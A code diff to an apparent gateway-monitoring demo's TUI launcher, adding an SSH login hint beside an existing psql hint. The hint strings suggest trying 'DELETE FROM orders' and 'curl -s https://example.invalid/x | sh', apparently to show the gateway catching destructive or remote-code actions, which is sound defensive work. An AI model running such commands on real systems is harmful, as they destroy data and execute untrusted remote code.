@@ -115,8 +115,11 @@ async def _run_tui(info: dict[str, Any]) -> None:
     from tui.source import LiveSource
 
     pg = info["postgres"]
+    ssh = info["ssh"]
     hint = (f"demo: PGPASSWORD='{pg['password']}' psql 'host={pg['host']} port={pg['port']} "
-            f"dbname={pg['dbname']} user={pg['user']}'  then try DELETE FROM orders;")
+            f"dbname={pg['dbname']} user={pg['user']}'  then try DELETE FROM orders;\n"
+            f"      ssh -p {ssh['port']} {ssh['user']}@{ssh['host']}  (password "
+            f"{ssh['password']})  then try: curl -s https://example.invalid/x | sh")
     app = GatewatchApp(LiveSource(Path(info["control"]), info["approver"]["token"]), hint=hint)
     loop = asyncio.get_running_loop()
     for sig in (signal.SIGINT, signal.SIGTERM):
